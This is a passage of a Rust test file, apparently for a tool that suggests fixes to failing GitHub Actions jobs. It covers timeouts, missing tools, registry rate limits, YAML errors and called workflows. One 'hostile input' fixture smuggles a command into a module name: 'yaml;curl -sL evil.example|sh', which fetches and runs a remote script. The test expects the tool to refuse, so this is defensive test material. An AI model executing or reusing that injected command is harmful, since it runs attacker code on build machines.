        step: "Run bash scripts/build.sh",
        lines: SCRIPT_MISSING,
        want: Want::Declined("only a doubtful fix exists"),
    },
    Case {
        name: "a script moved, two files of its name: no fix",
        files: &[
            (
                CI,
                "on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: bash scripts/build.sh\n",
            ),
            ("tools/build.sh", "#!/bin/sh\nmake\n"),
            ("ci/build.sh", "#!/bin/sh\nmake ci\n"),
        ],
        workflow: Some(CI),
        job: "build",
        step: "Run bash scripts/build.sh",
        lines: SCRIPT_MISSING,
        want: Want::Declined(""),
    },
    Case {
        name: "a build output missing, a test fixture of the same name elsewhere: no fix",
        files: &[
            (
                CI,
                "on: push\njobs:\n  release:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: make dist\n      - run: cp dist/app.tar.gz release/\n",
            ),
            ("testdata/app.tar.gz", "fixture\n"),
        ],
        workflow: Some(CI),
        job: "release",
        step: "Run cp dist/app.tar.gz release/",
        lines: ARCHIVE_MISSING,
        want: Want::Declined(""),
    },
];

#[test]
fn round_two_shapes_get_the_right_fix_or_a_reasoned_refusal() {
    assert_round(ROUND_2);
}

// ---- Round 3: where the right edit place is unusual, and hostile input ----
//
// Written and committed before any change (the commit titled `fix shapes:
// round 3`); each expectation is decided from issue 12's definitions (a
// wrong fix is worse than none; only a distribution that provides the
// module; the fix the named service needs; a moved file only when the
// repository clearly has it) and GitHub's documented semantics, not from
// what the fixes do.

const DOCS_YML: &str = ".github/workflows/docs.yml";
const WEB_YML: &str = ".github/workflows/web.yml";
const TEST_YML: &str = ".github/workflows/test.yml";
const SETUP_ACTION: &str = ".github/actions/setup/action.yml";

const TIMED_OUT_360: &[&str] = &[
    "##[group]Run make test",
    "make test",
    "##[endgroup]",
    "ok   pkg/a  12.1s",
    "##[error]The job running on runner GitHub Actions 9 has exceeded the maximum execution time of 360 minutes.",
];

const JOB_TIMED_OUT_30_IN_STEP: &[&str] = &[
    "##[group]Run make integration",
    "make integration",
    "##[endgroup]",
    "ok   it/api  61.0s",
    "##[error]The job running on runner GitHub Actions 4 has exceeded the maximum execution time of 30 minutes.",
];

const TOMLLIB_ON_310: &[&str] = &[
    "##[group]Run python -m pytest",
    "python -m pytest",
    "shell: /usr/bin/bash -e {0}",
    "env:",
    "  pythonLocation: /opt/hostedtoolcache/Python/3.10.16/x64",
    "##[endgroup]",
    "ImportError while loading conftest '/home/runner/work/app/app/tests/conftest.py'.",
    "tests/conftest.py:3: in <module>",
    "    import tomllib",
    "E   ModuleNotFoundError: No module named 'tomllib'",
    "##[error]Process completed with exit code 4.",
];

const PANDOC_NOT_RECOGNIZED_PWSH: &[&str] = &[
    "##[group]Run pandoc README.md -o out.html",
    "pandoc README.md -o out.html",
    "shell: C:\\Program Files\\PowerShell\\7\\pwsh.EXE -command \". '{0}'\"",
    "##[endgroup]",
    "pandoc: D:\\a\\_temp\\1f2e3d4c-5b6a-7980-a1b2-c3d4e5f60718.ps1:2",
    "Line |",
    "   2 |  pandoc README.md -o out.html",
    "     |  ~~~~~~",
    "     | The term 'pandoc' is not recognized as a name of a cmdlet, function, script file, or executable program.",
    "     | Check the spelling of the name, or if a path was included, verify that the path is correct and try again.",
    "##[error]Process completed with exit code 1.",
];

const MAKE_MISSING_ALPINE: &[&str] = &[
    "##[group]Run make build",
    "make build",
    "shell: sh -e {0}",
    "##[endgroup]",
    "/__w/_temp/3f2a1b0c.sh: line 1: make: not found",
    "##[error]Process completed with exit code 127.",
];

const POETRY_NO_YAML: &[&str] = &[
    "##[group]Run poetry run pytest",
    "poetry run pytest",
    "##[endgroup]",
    "E   ModuleNotFoundError: No module named 'yaml'",
    "##[error]Process completed with exit code 1.",
];

const UV_NO_YAML: &[&str] = &[
    "##[group]Run uv run pytest",
    "uv run pytest",
    "##[endgroup]",
    "E   ModuleNotFoundError: No module named 'yaml'",
    "##[error]Process completed with exit code 1.",
];

const JEST_NO_SUPERTEST: &[&str] = &[
    "##[group]Run pnpm test",
    "pnpm test",
    "shell: /usr/bin/bash -e {0}",
    "##[endgroup]",
    "FAIL tests/api.test.js",
    "  ● Test suite failed to run",
    "",
    "    Cannot find module 'supertest' from 'tests/api.test.js'",
    "",
    "Test Suites: 1 failed, 1 passed, 2 total",
    "##[error]Process completed with exit code 1.",
];

const GHCR_PULL_429: &[&str] = &[
    "##[group]Run docker pull ghcr.io/acme/ci-base:2026.05",
    "docker pull ghcr.io/acme/ci-base:2026.05",
    "shell: /usr/bin/bash -e {0}",
    "##[endgroup]",
    "Error response from daemon: Head \"https://ghcr.io/v2/acme/ci-base/manifests/2026.05\": toomanyrequests: retry-after: 593.247µs, allowed: 44000/minute",
    "##[error]Process completed with exit code 1.",
];

const NPX_429: &[&str] = &[
    "##[group]Run npx playwright test",
    "npx playwright test",
    "shell: /usr/bin/bash -e {0}",
    "##[endgroup]",
    "npm error code E429",
    "npm error 429 Too Many Requests - GET https://registry.npmjs.org/playwright",
    "npm error A complete log of this run can be found in: /home/runner/.npm/_logs/2026-01-01T00_00_00_000Z-debug-0.log",
    "##[error]Process completed with exit code 1.",
];

const GRADLE_CENTRAL_429: &[&str] = &[
    "##[group]Run ./gradlew build --no-daemon",
    "./gradlew build --no-daemon",
    "shell: /usr/bin/bash -e {0}",
    "##[endgroup]",
    "FAILURE: Build failed with an exception.",
    "",
    "* What went wrong:",
    "Execution failed for task ':core:compileJava'.",
    "> Could not resolve all files for configuration ':core:compileClasspath'.",
    "   > Could not resolve com.google.guava:guava:33.3.1-jre.",
    "         > Could not get resource 'https://repo.maven.apache.org/maven2/com/google/guava/guava/33.3.1-jre/guava-33.3.1-jre.pom'.",
    "            > Could not HEAD 'https://repo.maven.apache.org/maven2/com/google/guava/guava/33.3.1-jre/guava-33.3.1-jre.pom'. Received status code 429 from server: Too Many Requests",
    "",
    "BUILD FAILED in 14s",
    "##[error]Process completed with exit code 1.",
];

const NPM_PUBLISH_429: &[&str] = &[
    "##[group]Run npm ci",
    "npm ci",
    "npm publish",
    "shell: /usr/bin/bash -e {0}",
    "env:",
    "  NODE_AUTH_TOKEN: ***",
    "##[endgroup]",
    "added 212 packages, and audited 213 packages in 6s",
    "found 0 vulnerabilities",
    "npm notice Publishing to https://registry.npmjs.org/ with tag latest and default access",
    "npm error code E429",
    "npm error 429 Too Many Requests - PUT https://registry.npmjs.org/acme-widgets - rate limited",
    "##[error]Process completed with exit code 1.",
];

const PYPI_429: &[&str] = &[
    "##[group]Run pip install -r requirements.txt",
    "pip install -r requirements.txt",
    "shell: /usr/bin/bash -e {0}",
    "##[endgroup]",
    "Collecting attrs==24.3.0 (from -r requirements.txt (line 1))",
    "ERROR: HTTP error 429 while getting https://files.pythonhosted.org/packages/89/aa/ab0f7891a01eeb2d2e338ae8fecbe57fcebea1a24dbb64d45801bfab481d/attrs-24.3.0-py3-none-any.whl",
    "ERROR: 429 Client Error: Too Many Requests for url: https://files.pythonhosted.org/packages/89/aa/ab0f7891a01eeb2d2e338ae8fecbe57fcebea1a24dbb64d45801bfab481d/attrs-24.3.0-py3-none-any.whl",
    "##[error]Process completed with exit code 1.",
];

const README_CASE_MISSING: &[&str] = &[
    "##[group]Run cp docs/README.md site/index.md",
    "cp docs/README.md site/index.md",
    "shell: /usr/bin/bash -e {0}",
    "##[endgroup]",
    "cp: cannot stat 'docs/README.md': No such file or directory",
    "##[error]Process completed with exit code 1.",
];

const COVERAGE_XML_MISSING: &[&str] = &[
    "##[group]Run python tools/report.py coverage.xml",
    "python tools/report.py coverage.xml",
    "shell: /usr/bin/bash -e {0}",
    "##[endgroup]",
    "Traceback (most recent call last):",
    "  File \"/home/runner/work/app/app/tools/report.py\", line 4, in <module>",
    "    with open(sys.argv[1]) as f:",
    "         ^^^^^^^^^^^^^^^^^",
    "FileNotFoundError: [Errno 2] No such file or directory: 'coverage.xml'",
    "##[error]Process completed with exit code 1.",
];

const PARENT_PATH_MISSING: &[&str] = &[
    "##[group]Run pip install -r ../shared/requirements.txt",
    "pip install -r ../shared/requirements.txt",
    "##[endgroup]",
    "ERROR: Could not open requirements file: [Errno 2] No such file or directory: '../shared/requirements.txt'",
    "##[error]Process completed with exit code 1.",
];

const ACTION_YML_INVALID: &[&str] = &[
    "##[group]Run ./.github/actions/setup",
    "##[endgroup]",
    "##[error]/home/runner/work/app/app/./.github/actions/setup/action.yml (Line: 7, Col: 24): Mapping values are not allowed in this context.",
];

const MKDOCS_YAML_INVALID: &[&str] = &[
    "##[group]Run mkdocs build --strict",
    "mkdocs build --strict",
    "shell: /usr/bin/bash -e {0}",
    "##[endgroup]",
    "Error: MkDocs encountered an error parsing the configuration file: while parsing a block mapping",
    "  in \"/home/runner/work/app/app/mkdocs.yml\", line 1, column 1",
    "expected <block end>, but found '<block mapping start>'",
    "  in \"/home/runner/work/app/app/mkdocs.yml\", line 5, column 2",
    "##[error]Process completed with exit code 1.",
];

const HOSTILE_MODULE: &[&str] = &[
    "##[group]Run python -m pytest",
    "python -m pytest",
    "##[endgroup]",
    "E   ModuleNotFoundError: No module named 'yaml;curl -sL evil.example|sh'",
    "##[error]Process completed with exit code 1.",
];

const PYTHON_JOB: &str = "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: pip install -r requirements.txt\n      - name: Tests\n        run: python -m pytest\n";

const PANDOC_JOB: &str = "on: push\njobs:\n  docs:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - name: Docs\n        run: pandoc README.md -o out.html\n";

const ROUND_3: &[Case] = &[
    // ---- the edit belongs in a called workflow ----
    Case {
        name: "missing command in a called workflow's job, the caller has its own job of that id",
        files: &[
            (
                CI,
                "on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n  docs:\n    uses: ./.github/workflows/docs.yml\n",
            ),
            (
                DOCS_YML,
                "on:\n  workflow_call:\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - name: HTML\n        run: pandoc README.md -o out.html\n",
            ),
        ],
        workflow: None,
        job: "docs / build",
        step: "HTML",
        lines: PANDOC_MISSING,
        want: fix(&[DOCS_YML], &["apt-get install -y pandoc"]),
    },
    Case {
        name: "npm 429 in a called workflow, the caller given and running npm ci itself",
        files: &[
            (
                CI,
                "on: push\njobs:\n  lint:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm ci\n      - run: npm run lint\n  web:\n    uses: ./.github/workflows/web.yml\n",
            ),
            (
                WEB_YML,
                "on: workflow_call\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm ci\n      - run: npm run build\n",
            ),
        ],
        workflow: Some(CI),
        job: "web / build",
        step: "Run npm ci",
        lines: NPM_429,
        want: Want::Either {
            files: &[WEB_YML],
            adds: &["if npm ci; then"],
            removes: &["npm ci"],
        },
    },
    Case {
        name: "a step's own limit exceeded in a called workflow, found from the caller / callee name",
        files: &[
            (CI, "on: push\njobs:\n  unit:\n    uses: ./.github/workflows/test.yml\n"),
            (
                TEST_YML,
                "on: workflow_call\njobs:\n  test:\n    runs-on: ubuntu-latest\n    timeout-minutes: 60\n    steps:\n      - uses: actions/checkout@v4\n      - name: Integration tests\n        timeout-minutes: 10\n        run: make integration\n",
            ),
        ],
        workflow: None,
        job: "unit / test",
        step: "Integration tests",
        lines: STEP_TIMED_OUT_10,
        want: Want::Fix {
            files: &[TEST_YML],
            adds: &["timeout-minutes: 20"],
            removes: &["timeout-minutes: 10"],
        },
    },
    Case {
        name: "callee limit from an input the caller sets from its matrix include",
        files: &[
            (
                CI,
                "on: push\njobs:\n  unit:\n    strategy:\n      matrix:\n        include:\n          - suite: fast\n            timeout: 30\n          - suite: slow\n            timeout: 90\n    uses: ./.github/workflows/test.yml\n    with:\n      suite: ${{ matrix.suite }}\n      timeout: ${{ matrix.timeout }}\n",
            ),
            (
                TEST_YML,
                "on:\n  workflow_call:\n    inputs:\n      suite:\n        type: string\n      timeout:\n        type: number\n        default: 30\njobs:\n  test:\n    runs-on: ubuntu-latest\n    timeout-minutes: ${{ inputs.timeout }}\n    steps:\n      - uses: actions/checkout@v4\n      - run: make test\n",
            ),
        ],
        workflow: Some(CI),
        job: "unit (fast, 30) / test",
        step: "Run make test",
        lines: TIMED_OUT_30,
        want: Want::Either {
            files: &[CI],
            adds: &["timeout: 60"],
            removes: &["timeout: 30"],
        },
    },
    Case {
        name: "callee limit from an input's default, the caller passing nothing",
        files: &[
            (CI, "on: push\njobs:\n  unit:\n    uses: ./.github/workflows/test.yml\n"),
            (
                TEST_YML,
                "on:\n  workflow_call:\n    inputs:\n      timeout:\n        type: number\n        default: 30\njobs:\n  test:\n    runs-on: ubuntu-latest\n    timeout-minutes: ${{ inputs.timeout }}\n    steps:\n      - uses: actions/checkout@v4\n      - run: make test\n",
            ),
        ],
        workflow: Some(CI),
        job: "unit / test",
        step: "Run make test",
        lines: TIMED_OUT_30,
        want: either(&[CI, TEST_YML], &["60"]),
    },
    // ---- one matrix leg failed ----
    Case {
        name: "tomllib missing on the 3.10 leg of a Python matrix (no install provides it; the leg is deliberate)",
        files: &[
            (
                CI,
                "on: push\njobs:\n  test:\n    strategy:\n      matrix:\n        python: ['3.10', '3.12']\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-python@v5\n        with:\n          python-version: ${{ matrix.python }}\n      - run: pip install -r requirements.txt\n      - name: Tests\n        run: python -m pytest\n",
            ),
            REQS,
        ],
        workflow: Some(CI),
        job: "test (3.10)",
        step: "Tests",
        lines: TOMLLIB_ON_310,
        want: Want::Declined(""),
    },
    Case {
        name: "command not recognized on the Windows leg of an OS matrix",
        files: &[(
            CI,
            "on: push\njobs:\n  docs:\n    strategy:\n      matrix:\n        os: [ubuntu-latest, windows-latest]\n    runs-on: ${{ matrix.os }}\n    steps:\n      - uses: actions/checkout@v4\n      - name: Docs\n        run: pandoc README.md -o out.html\n",
        )],
        workflow: Some(CI),
        job: "docs (windows-latest)",
        step: "Docs",
        lines: PANDOC_NOT_RECOGNIZED_PWSH,
        want: Want::Without(
            &either(&[CI], &["choco install", "runner.os == 'Windows'"]),
            &["apt-get", "brew "],
        ),
    },
    // ---- time limits ----
    Case {
        name: "timeout of a hosted job already at the 360-minute maximum",
        files: &[(
            CI,
            "on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    timeout-minutes: 360\n    steps:\n      - uses: actions/checkout@v4\n      - run: make test\n",
        )],
        workflow: Some(CI),
        job: "build",
        step: "Run make test",
        lines: TIMED_OUT_360,
        want: Want::Declined("360"),
    },
    Case {
        name: "the job's limit hit (job message) while a step has the same limit: the job is raised",
        files: &[(
            CI,
            "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    timeout-minutes: 30\n    steps:\n      - uses: actions/checkout@v4\n      - run: make build\n      - name: Integration tests\n        timeout-minutes: 30\n        run: make integration\n",
        )],
        workflow: Some(CI),
        job: "test",
        step: "Integration tests",
        lines: JOB_TIMED_OUT_30_IN_STEP,
        want: Want::Fix {
            files: &[CI],
            adds: &["+    timeout-minutes: 60"],
            removes: &["-    timeout-minutes: 30", "-        timeout-minutes: 30"],
        },
    },
    Case {
        name: "a step's limit message whose limit is not the step's any more (raised since), the job has none",
        files: &[(
            CI,
            "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - name: Integration tests\n        timeout-minutes: 15\n        run: make integration\n",
        )],
        workflow: Some(CI),
        job: "test",
        step: "Integration tests",
        lines: STEP_TIMED_OUT_10,
        want: Want::Declined(""),
    },
    Case {
        name: "the log's job limit (30) is not the workflow's (45): the workflow changed since",
        files: &[(
            CI,
            "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    timeout-minutes: 45\n    steps:\n      - uses: actions/checkout@v4\n      - run: make test\n",
        )],
        workflow: Some(CI),
        job: "test",
        step: "Run make test",
        lines: TIMED_OUT_30,
        want: Want::Declined(""),
    },
    // ---- missing commands where the installer is unusual ----
    Case {
        name: "missing make in an Alpine container job (apk, root, no sudo)",
        files: &[(
            CI,
            "on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    container: node:20-alpine\n    steps:\n      - uses: actions/checkout@v4\n      - name: Build\n        run: make build\n",
        )],
        workflow: Some(CI),
        job: "build",
        step: "Build",
        lines: MAKE_MISSING_ALPINE,
        want: Want::Without(&either(&[CI], &["apk add"]), &["apt-get", "sudo"]),
    },
    Case {
        name: "missing command on a self-hosted Linux runner",
        files: &[(
            CI,
            "on: push\njobs:\n  docs:\n    runs-on: [self-hosted, linux, x64]\n    steps:\n      - uses: actions/checkout@v4\n      - name: Docs\n        run: pandoc README.md -o out.html\n",
        )],
        workflow: Some(CI),
        job: "docs",
        step: "Docs",
        lines: PANDOC_MISSING,
        want: Want::Declined("self-hosted"),
    },
    // ---- missing dependencies in lock-file projects ----
    Case {
        name: "missing module in a Poetry project with a lock file",
        files: &[
            (
                CI,
                "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-python@v5\n        with:\n          python-version: '3.12'\n      - run: pipx install poetry\n      - run: poetry install --no-interaction\n      - name: Tests\n        run: poetry run pytest\n",
            ),
            (
                "pyproject.toml",
                "[tool.poetry]\nname = \"app\"\nversion = \"0.1.0\"\ndescription = \"\"\nauthors = []\n\n[tool.poetry.dependencies]\npython = \"^3.12\"\n\n[tool.poetry.group.dev.dependencies]\npytest = \"^8.0\"\n\n[build-system]\nrequires = [\"poetry-core\"]\nbuild-backend = \"poetry.core.masonry.api\"\n",
            ),
            (
                "poetry.lock",
                "# This file is automatically @generated by Poetry 1.8.3 and should not be changed by hand.\n\n[[package]]\nname = \"pytest\"\nversion = \"8.3.3\"\ndescription = \"pytest: simple powerful testing with Python\"\noptional = false\npython-versions = \">=3.8\"\nfiles = []\n\n[metadata]\nlock-version = \"2.0\"\npython-versions = \"^3.12\"\ncontent-hash = \"0000\"\n",
            ),
        ],
        workflow: Some(CI),
        job: "test",
        step: "Tests",
        lines: POETRY_NO_YAML,
        want: Want::Declined(""),
    },
    Case {
        name: "missing module in a uv project synced with --locked",
        files: &[
            (
                CI,
                "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: astral-sh/setup-uv@v5\n      - run: uv sync --locked\n      - name: Tests\n        run: uv run pytest\n",
            ),
            (
                "pyproject.toml",
                "[project]\nname = \"app\"\nversion = \"0.1.0\"\nrequires-python = \">=3.12\"\ndependencies = []\n\n[dependency-groups]\ndev = [\"pytest>=8\"]\n",
            ),
            (
                "uv.lock",
                "version = 1\nrequires-python = \">=3.12\"\n\n[[package]]\nname = \"app\"\nversion = \"0.1.0\"\nsource = { editable = \".\" }\n",
            ),
        ],
        workflow: Some(CI),
        job: "test",
        step: "Tests",
        lines: UV_NO_YAML,
        want: Want::Declined(""),
    },
    Case {
        name: "missing module in a uv project synced without --locked (uv relocks)",
        files: &[
            (
                CI,
                "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: astral-sh/setup-uv@v5\n      - run: uv sync\n      - name: Tests\n        run: uv run pytest\n",
            ),
            (
                "pyproject.toml",
                "[project]\nname = \"app\"\nversion = \"0.1.0\"\nrequires-python = \">=3.12\"\ndependencies = []\n\n[dependency-groups]\ndev = [\"pytest>=8\"]\n",
            ),
            (
                "uv.lock",
                "version = 1\nrequires-python = \">=3.12\"\n\n[[package]]\nname = \"app\"\nversion = \"0.1.0\"\nsource = { editable = \".\" }\n",
            ),
        ],
        workflow: Some(CI),
        job: "test",
        step: "Tests",
        lines: UV_NO_YAML,
        want: Want::Without(&either(&["pyproject.toml"], &[]), &["pip install"]),
    },
    Case {
        name: "missing Node module in a pnpm project installed with --frozen-lockfile",
        files: &[
            (
                CI,
                "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: pnpm/action-setup@v4\n        with:\n          version: 9\n      - uses: actions/setup-node@v4\n        with:\n          node-version: 20\n          cache: pnpm\n      - run: pnpm install --frozen-lockfile\n      - name: Tests\n        run: pnpm test\n",
            ),
            (
                "package.json",
                "{\n  \"name\": \"api\",\n  \"private\": true,\n  \"scripts\": { \"test\": \"jest\" },\n  \"devDependencies\": { \"jest\": \"^29.7.0\" }\n}\n",
            ),
            ("pnpm-lock.yaml", "lockfileVersion: '9.0'\n"),
        ],
        workflow: Some(CI),
        job: "test",
        step: "Tests",
        lines: JEST_NO_SUPERTEST,
        want: Want::Declined(""),
    },
    // ---- rate limits: the service's own fix, the right command only ----
    Case {
        name: "GHCR 429 in a job that already logs in to Docker Hub",
        files: &[(
            CI,
            "on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: docker/login-action@v3\n        with:\n          username: ${{ secrets.DOCKERHUB_USERNAME }}\n          password: ${{ secrets.DOCKERHUB_TOKEN }}\n      - name: Pull base\n        run: docker pull ghcr.io/acme/ci-base:2026.05\n      - run: docker build -t app .\n",
        )],
        workflow: Some(CI),
        job: "build",
        step: "Pull base",
        lines: GHCR_PULL_429,
        // First run: `removes` was left out by mistake (a retry loop makes
        // the one-line `run:` a block, as in every other retry case).
        want: Want::Without(
            &Want::Either {
                files: &[CI],
                adds: &["ghcr.io"],
                removes: &["run: docker pull ghcr.io/acme/ci-base:2026.05"],
            },
            &["DOCKERHUB"],
        ),
    },
    Case {
        name: "PyPI 429 in a job that logs in to Docker Hub",
        files: &[
            (
                CI,
                "on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: docker/login-action@v3\n        with:\n          username: ${{ secrets.DOCKERHUB_USERNAME }}\n          password: ${{ secrets.DOCKERHUB_TOKEN }}\n      - run: pip install -r requirements.txt\n      - run: docker build -t app .\n",
            ),
            ("requirements.txt", "attrs==24.3.0\n"),
        ],
        workflow: Some(CI),
        job: "build",
        step: "Run pip install -r requirements.txt",
        lines: PYPI_429,
        want: Want::Without(
            &Want::Either {
                files: &[CI],
                adds: &["pip install -r requirements.txt"],
                removes: &["pip install -r requirements.txt"],
            },
            &["docker/login-action", "DOCKERHUB"],
        ),
    },
    Case {
        name: "npm 429 from `npx playwright test` (a retry would run the tests again)",
        files: &[(
            CI,
            "on: push\njobs:\n  e2e:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-node@v4\n        with:\n          node-version: 20\n      - name: E2E\n        run: npx playwright test\n",
        )],
        workflow: Some(CI),
        job: "e2e",
        step: "E2E",
        lines: NPX_429,
        want: Want::Without(&either(&[CI], &[]), &["npx playwright test; then", "cache: npm"]),
    },
    Case {
        name: "Maven Central 429 in a Gradle build (never loop the build)",
        files: &[
            (
                CI,
                "on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-java@v4\n        with:\n          distribution: temurin\n          java-version: 21\n      - run: ./gradlew build --no-daemon\n",
            ),
            (
                "build.gradle",
                "plugins { id 'java' }\nrepositories { mavenCentral() }\n",
            ),
            (
                "gradle/wrapper/gradle-wrapper.properties",
                "distributionUrl=https\\://services.gradle.org/distributions/gradle-8.10-bin.zip\n",
            ),
        ],
        workflow: Some(CI),
        job: "build",
        step: "Run ./gradlew build --no-daemon",
        lines: GRADLE_CENTRAL_429,
        want: Want::Without(
            &either(&[CI], &["cache: gradle"]),
            &["./gradlew build --no-daemon; then"],
        ),
    },
    Case {
        name: "npm 429 on `npm publish` (a PUT) after `npm ci` passed in the same step",
        files: &[(
            CI,
            "on:\n  push:\n    tags: ['v*']\njobs:\n  publish:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-node@v4\n        with:\n          node-version: 20\n          registry-url: https://registry.npmjs.org\n      - name: Publish\n        run: |\n          npm ci\n          npm publish\n        env:\n          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}\n",
        )],
        workflow: Some(CI),
        job: "publish",
        step: "Publish",
        lines: NPM_PUBLISH_429,
        want: Want::Without(&either(&[CI], &["npm publish"]), &["if npm ci; then"]),
    },
    // ---- files: case, artifacts, paths leaving the checkout ----
    Case {
        name: "a file present under another case (docs/README.MD) on a case-sensitive runner",
        files: &[
            (
                CI,
                "on: push\njobs:\n  site:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - name: Copy docs\n        run: cp docs/README.md site/index.md\n",
            ),
            ("docs/README.MD", "# App\n"),
            ("site/.keep", ""),
        ],
        workflow: Some(CI),
        job: "site",
        step: "Copy docs",
        lines: README_CASE_MISSING,
        want: Want::Fix {
            files: &[CI],
            adds: &["cp docs/README.MD site/index.md"],
            removes: &["docs/README.md"],
        },
    },
    Case {
        name: "a file only a sibling job makes (uploaded as an artifact), a fixture of the same name elsewhere",
        files: &[
            (
                CI,
                "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: pip install -r requirements.txt\n      - run: python -m pytest --cov=app --cov-report=xml\n      - uses: actions/upload-artifact@v4\n        with:\n          name: coverage\n          path: coverage.xml\n  report:\n    needs: test\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - name: Report\n        run: python tools/report.py coverage.xml\n",
            ),
            REQS,
            ("tools/report.py", "import sys\n"),
            ("tests/fixtures/coverage.xml", "<coverage/>\n"),
        ],
        workflow: Some(CI),
        job: "report",
        step: "Report",
        lines: COVERAGE_XML_MISSING,
        want: either(&[CI], &["actions/download-artifact"]),
    },
    Case {
        name: "a path leaving the checkout (../shared), a same-named folder inside it",
        files: &[
            (
                CI,
                "on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - name: Install\n        run: pip install -r ../shared/requirements.txt\n",
            ),
            ("shared/requirements.txt", "pytest\n"),
        ],
        workflow: Some(CI),
        job: "build",
        step: "Install",
        lines: PARENT_PATH_MISSING,
        want: Want::Declined(""),
    },
    // ---- YAML errors: the workflow's, an action's, a tool's ----
    Case {
        name: "YAML error in a local composite action's action.yml",
        files: &[
            (
                CI,
                "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - name: Setup\n        uses: ./.github/actions/setup\n      - run: make test\n",
            ),
            (
                SETUP_ACTION,
                "name: setup\nruns:\n  using: composite\n  steps:\n    - name: Version\n      shell: bash\n      run: echo version: 1.2\n",
            ),
        ],
        workflow: None,
        job: "test",
        step: "Setup",
        lines: ACTION_YML_INVALID,
        want: Want::Either {
            files: &[SETUP_ACTION],
            adds: &["'echo version: 1.2'"],
            removes: &["echo version: 1.2"],
        },
    },
    Case {
        name: "YAML error in mkdocs.yml, read by a tool (not a workflow)",
        files: &[
            (
                CI,
                "on: push\njobs:\n  docs:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: pip install mkdocs\n      - name: Build docs\n        run: mkdocs build --strict\n",
            ),
            (
                "mkdocs.yml",
                "site_name: App\nnav:\n  - Home: index.md\n  - API: api.md\n theme: material\n",
            ),
        ],
        workflow: None,
        job: "docs",
        step: "Build docs",
        lines: MKDOCS_YAML_INVALID,
        want: Want::Declined(""),
    },
    // ---- optional jobs that others need ----
    Case {
        name: "lost runner on an ARM build whose artifact a smoke-test job needs",
        files: &[(
            CI,
            "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make test\n  build-arm:\n    runs-on: [self-hosted, linux, arm64]\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n      - uses: actions/upload-artifact@v4\n        with:\n          name: app-arm64\n          path: bin/app\n  smoke-arm:\n    needs: build-arm\n    runs-on: [self-hosted, linux, arm64]\n    steps:\n      - uses: actions/download-artifact@v4\n        with:\n          name: app-arm64\n      - run: ./app --self-test\n",
        )],
        workflow: Some(CI),
        job: "build-arm",
        step: "Run make",
        lines: LOST_RUNNER,
        want: Want::Declined(""),
    },
    Case {
        name: "lost runner on an ARM job needed only by an always() all-green gate",
        files: &[(
            CI,
            "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make test\n  build-arm:\n    runs-on: [self-hosted, linux, arm64]\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n  all-green:\n    if: always()\n    needs: [test, build-arm]\n    runs-on: ubuntu-latest\n    steps:\n      - run: test \"${{ contains(needs.*.result, 'failure') }}\" = false\n",
        )],
        workflow: Some(CI),
        job: "build-arm",
        step: "Run make",
        lines: LOST_RUNNER,
        want: fix(&[CI], &["continue-on-error: true"]),
    },
    // ---- hostile input ----
    Case {
        name: "a module name with shell metacharacters",
        files: &[(CI, PYTHON_JOB), REQS],
        workflow: Some(CI),
        job: "test",
        step: "Tests",
        lines: HOSTILE_MODULE,
        want: Want::Declined(""),
    },
    Case {
        name: "a job name that is not in the workflow",
        files: &[(CI, PANDOC_JOB)],
        workflow: Some(CI),
        job: "deploy",
        step: "Run pandoc README.md -o out.html",
        lines: PANDOC_MISSING,
        want: Want::Declined(""),
    },
    Case {
        name: "a job name sharing only the literal prefix of a `name:` template",
        files: &[(
            CI,
